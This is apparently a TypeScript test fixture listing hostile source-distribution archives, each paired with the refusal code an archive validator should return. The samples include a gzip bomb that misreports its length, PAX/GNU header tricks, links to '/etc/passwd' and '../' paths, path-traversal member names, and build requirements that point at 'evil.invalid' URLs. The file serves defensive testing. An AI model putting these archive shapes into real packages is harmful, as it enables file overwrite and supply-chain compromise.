import { deflateRawSync } from 'node:zlib';
import type { Limits } from '../../src/archive/limits.js';
import type { RefusalCode } from '../../src/archive/refusals.js';
import { gzip, paxRecords, writeTar, writeZip, type TarEntry } from '../support/pack.js';
import { packByPython } from '../support/python-packer.js';
import type { Hostile } from './hostile-zips.js';

const SDIST = 'demo-1.0.tar.gz';
const PKG_INFO = 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n';
const INFO: TarEntry = { name: 'demo-1.0/PKG-INFO', data: PKG_INFO };
const A: TarEntry = { name: 'demo-1.0/a.py', data: 'print(1)\n' };

function file(code: RefusalCode, what: string, bytes: Uint8Array, limits?: Partial<Limits>): Hostile {
  return { code, what, filename: SDIST, bytes, ...(limits === undefined ? {} : { limits }) };
}

const tar = (
  code: RefusalCode,
  what: string,
  entries: readonly TarEntry[],
  limits?: Partial<Limits>,
): Hostile => file(code, what, gzip(writeTar([INFO, ...entries])), limits);

const pax = (
  code: RefusalCode,
  what: string,
  body: Uint8Array | string,
  type = 'x',
  last: TarEntry[] = [A],
): Hostile => tar(code, what, [{ name: 'pax', type, data: body }, ...last]);

const link = (name: string, linkname: string, type = '2'): TarEntry => ({
  name: `demo-1.0/${name}`,
  linkname,
  type,
});

const proper = writeTar([INFO, A]);
const patched = (at: number, text: string): Buffer => {
  const copy = Buffer.from(proper);
  copy.write(text, at, 'latin1');
  return gzip(copy);
};

/** A gzip member cut off or with lies in its trailer. */
const packed = gzip(proper);
const withTrailer = (at: number): Buffer => {
  const copy = Buffer.from(packed);
  copy[copy.length + at] = (copy[copy.length + at] ?? 0) ^ 1;
  return copy;
};

const stored = (body: Uint8Array): Buffer => {
  const deflated = deflateRawSync(body, { level: 0 });
  return Buffer.concat([packed.subarray(0, 10), deflated, Buffer.alloc(8)]);
};

const [bzip2 = Buffer.alloc(0), xz = Buffer.alloc(0)] = packByPython([
  { how: 'bz2', bytes: proper },
  { how: 'xz', bytes: proper },
]);

/** bzip2 and xz that are cut off, or have a byte changed, or others behind them. */
function damagedOrLonger(code: string): Hostile[] {
  const [bytes, filename] = code.startsWith('xz') ? [xz, 'demo-1.0.tar.xz'] : [bzip2, 'demo-1.0.tar.bz2'];
  const middle = Buffer.from(bytes);
  middle[bytes.length >> 1] = (bytes[bytes.length >> 1] ?? 0) ^ 4;
  const variants: readonly (readonly [string, Buffer])[] = code.endsWith('corrupt')
    ? [
        ['cut off', bytes.subarray(0, -1)],
        ['changed', middle],
        ['its first bytes alone', bytes.subarray(0, 6)],
      ]
    : [
        ['zeros', Buffer.concat([bytes, Buffer.alloc(4)])],
        ['the tar itself', Buffer.concat([bytes, proper])],
      ];
  return variants.map(([what, made]) => ({ ...file(code as RefusalCode, what, made), filename }));
}

export const HOSTILE_TARS: readonly Hostile[] = [
  ...['bzip2-corrupt', 'bzip2-trailing-bytes', 'xz-corrupt', 'xz-trailing-bytes'].flatMap(damagedOrLonger),
  { ...file('unsupported-format', 'egg', writeZip([])), filename: 'demo-1.0-py3.10.egg' },
  file('format-mismatch', 'a zip', writeZip([{ name: 'demo-1.0/PKG-INFO', data: PKG_INFO }])),
  file('format-mismatch', 'no gzip', proper),
  file(
    'gzip-header',
    'a reserved flag',
    Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0x80]), packed.subarray(4)]),
  ),
  file('gzip-header', 'another method', Buffer.concat([Buffer.from([0x1f, 0x8b, 7]), packed.subarray(3)])),
  file('gzip-header', 'cut off', packed.subarray(0, 9)),
  file('gzip-corrupt', 'cut off', packed.subarray(0, -20)),
  file('gzip-corrupt', 'length', withTrailer(-4)),
  file('gzip-corrupt', 'checksum', withTrailer(-8)),
  file(
    'gzip-corrupt',
    'a bomb that tells a small length',
    Buffer.concat([gzip(Buffer.alloc(1 << 22)).subarray(0, -4), Buffer.from([0, 4, 0, 0])]),
  ),
  file('gzip-trailing-bytes', 'bytes', Buffer.concat([packed, packed.subarray(-8)])),
  file('gzip-trailing-bytes', 'two members', Buffer.concat([packed, packed])),
  file('tar-is-zip', 'a zip after the header', stored(writeZip([{ name: 'setup.py', data: 'pass' }]))),
  file('too-large', 'tells a gigabyte', packed, { spool: 100 }),
  tar('too-large', 'total above the limit', [A], { total: 2000 }),
  tar(
    'too-large',
    'many links to one file',
    [
      { ...A, data: 'x'.repeat(9000) },
      ...Array.from({ length: 99 }, (_, at) =>
        link(`l${at}`, at % 2 === 0 ? 'demo-1.0/a.py' : 'a.py', at % 2 === 0 ? '1' : '2'),
      ),
    ],
    { total: 100_000 },
  ),
  tar('too-dense', 'zeros', [{ ...A, data: Buffer.alloc(1 << 20) }], { densityFloor: 1e5 }),
  tar('file-too-large', 'a big file', [{ ...A, data: 'x'.repeat(200) }], { file: 100 }),
  tar('too-many-entries', 'one above the limit', [A], { entries: 1 }),
  file('tar-truncated', 'within a body', gzip(proper.subarray(0, 1600).subarray(0, 600))),
  file('tar-truncated', 'within a header', gzip(proper.subarray(0, 1100))),
  tar('tar-truncated', 'a body longer than the tar', [{ ...A, size: 1 << 20 }]),
  tar('tar-checksum', 'wrong', [{ ...A, checksum: 1 }]),
  file('tar-checksum', 'a mode was changed', patched(104, '7')),
  tar('tar-header', 'unknown magic', [{ ...A, magic: 'ustar\x0011' }]),
  tar('tar-header', 'a prefix Python alone applies', [{ ...A, magic: 'ustar  \0', prefix: 'demo-1.0/x' }]),
  tar('tar-header', 'size of a folder', [{ name: 'demo-1.0/x', type: '5', data: 'x'.repeat(512) }]),
  tar('tar-header', 'size of a link', [{ ...link('x', 'a.py'), data: writeTar([A]) }]),
  tar('tar-header', 'a number that is none', [{ ...A, size: NaN }]),
  pax('tar-extension', 'length too great', '99 path=demo-1.0/b.py\n'),
  pax('tar-extension', 'no length', 'path=demo-1.0/b.py\n'),
  pax('tar-extension', 'length that leads into the next record', '12 comment=x\n14 path=b.py\n'),
  pax(
    'tar-extension',
    'one key twice',
    Buffer.concat([paxRecords({ path: 'a' }), paxRecords({ path: 'b' })]),
  ),
  pax('tar-extension', 'an empty path', paxRecords({ path: '' })),
  pax('tar-extension', 'a NUL in a path', paxRecords({ path: 'demo-1.0/a\0b' })),
  pax('tar-extension', 'another charset', paxRecords({ hdrcharset: 'KOI8-R' })),
  pax('tar-extension', 'another size', paxRecords({ size: '512' })),
  pax('tar-extension', 'a size in hexadecimal', paxRecords({ size: '0x9' })),
  pax('tar-extension', 'no entry after it', paxRecords({ path: 'demo-1.0/b' }), 'x', []),
  pax('tar-extension', 'a global header in between', paxRecords({ path: 'demo-1.0/b' }), 'x', [
    { name: 'g', type: 'g', data: paxRecords({ comment: 'x' }) },
    A,
  ]),
  pax('tar-extension', 'a path stated by PAX and GNU', paxRecords({ path: 'demo-1.0/b' }), 'x', [
    { name: 'l', type: 'L', data: 'demo-1.0/c\0' },
    A,
  ]),
  pax('tar-extension', 'a GNU name that goes on after its NUL', 'demo-1.0/b\0c', 'L'),
  tar('tar-extension', 'a GNU name that Python reads on into the padding', [
    { name: 'l', type: 'L', data: 'demo-1.0/setup.py', size: 'demo-1.0/setup.p'.length },
    A,
  ]),
  tar('tar-extension', 'a GNU link name that Python reads on into the padding', [
    A,
    { name: 'l', type: 'K', data: 'a.py', size: 1 },
    link('x', 'a'),
  ]),
  tar('tar-extension', 'records of PAX in the padding', [
    {
      name: 'pax',
      type: 'x',
      data: Buffer.concat([paxRecords({ mtime: '1' }), paxRecords({ path: 'demo-1.0/setup.py' })]),
      size: paxRecords({ mtime: '1' }).length,
    },
    A,
  ]),
  pax('tar-extension', 'records for all, and no entry after them', paxRecords({ mtime: '1' }), 'g', []),
  pax('tar-extension', 'a body of two megabytes', Buffer.alloc(2 << 20), 'L'),
  pax('tar-pax-global', 'a path for all', paxRecords({ path: 'demo-1.0/b' }), 'g'),
  pax('tar-sparse', 'PAX', paxRecords({ 'GNU.sparse.major': '1' })),
  tar('tar-sparse', 'GNU', [{ ...A, type: 'S' }]),
  ...['3', '4', '6'].map((type) => tar('tar-device', type, [{ name: 'demo-1.0/x', type }])),
  ...['7', 'X', 'V', 'M'].map((type) => tar('tar-type', type, [{ name: 'demo-1.0/x', type }])),
  file('tar-trailing-bytes', 'a tar after the tar', gzip(Buffer.concat([proper, proper]))),
  tar('tar-duplicate-name', 'other content', [A, { ...A, data: 'print(2)\n' }]),
  tar('tar-duplicate-name', 'a link', [A, link('a.py', 'PKG-INFO')]),
  ...['/etc/passwd', '../x', '../../x', 'x/../../y', 'C:/x', '..\\x', ''].map((target) =>
    tar('tar-link-outside', JSON.stringify(target), [link('l', target)]),
  ),
  tar('tar-link-outside', 'by way of another link', [link('x/y/l', '../..'), link('z', 'x/y/l/..')]),
  tar('tar-link-outside', 'from beside the folder', [{ name: 'l', type: '2', linkname: '../demo-1.0' }]),
  tar('tar-link-outside', 'hard', [link('x', '../demo-1.0/a.py', '1')]),
  tar('tar-link-target', 'hard, other top folder', [link('x', 'other/a.py', '1')]),
  tar('tar-link-target', 'hard, to a later file', [link('x', 'demo-1.0/a.py', '1'), A]),
  tar('tar-link-loop', 'to each other', [link('x', 'y'), link('y', 'x')]),
  tar('name-clash', 'a file below a link', [link('x', '.'), { ...A, name: 'demo-1.0/x/b.py' }]),
  tar('name-parent', 'a member', [{ ...A, name: 'demo-1.0/../../b.py' }]),
  tar('name-absolute', 'a member', [{ ...A, name: '/b.py' }]),
  tar('name-encoding', 'Latin-1', [{ ...A, name: Buffer.from([0x64, 0xe9]) }]),
  tar('name-empty', 'a regular file that ends like a folder', [{ ...A, name: 'demo-1.0/x/' }]),
  tar('name-folding', 'case', [A, { ...A, name: 'demo-1.0/A.py' }]),
  tar('name-clash', 'file and folder', [A, { name: 'demo-1.0/a.py/b', data: '' }]),
  tar('sdist-top-folder', 'a file beside it', [{ ...A, name: 'setup.py' }]),
  tar('sdist-top-folder', 'two', [{ ...A, name: 'other/setup.py' }]),
  file('metadata-missing', 'no PKG-INFO', gzip(writeTar([A]))),
  tar('build-requires-direct-url', 'in the words of uv', [
    {
      name: 'demo-1.0/pyproject.toml',
      data: '[build-system]\nrequires = ["demo.tool>=1"]\n[tool.uv.sources]\nDemo_Tool = [{ git = "https://evil.invalid/x", marker = "x" }]\n',
    },
  ]),
  tar('build-requires-direct-url', 'of the default back end', [
    {
      name: 'demo-1.0/pyproject.toml',
      data: '[tool.uv.sources]\nsetuptools = { path = "vendor/setuptools-99.tar.gz" }\n',
    },
  ]),
  tar('build-requires-direct-url', 'among others', [
    {
      name: 'demo-1.0/pyproject.toml',
      data: '[build-system]\nrequires = ["setuptools", "demo_tool[x] @ http://evil.invalid/x.tar.gz"]\n',
    },
  ]),
  tar('pyproject-invalid', 'no TOML', [{ name: 'demo-1.0/pyproject.toml', data: '[build-system' }]),
];
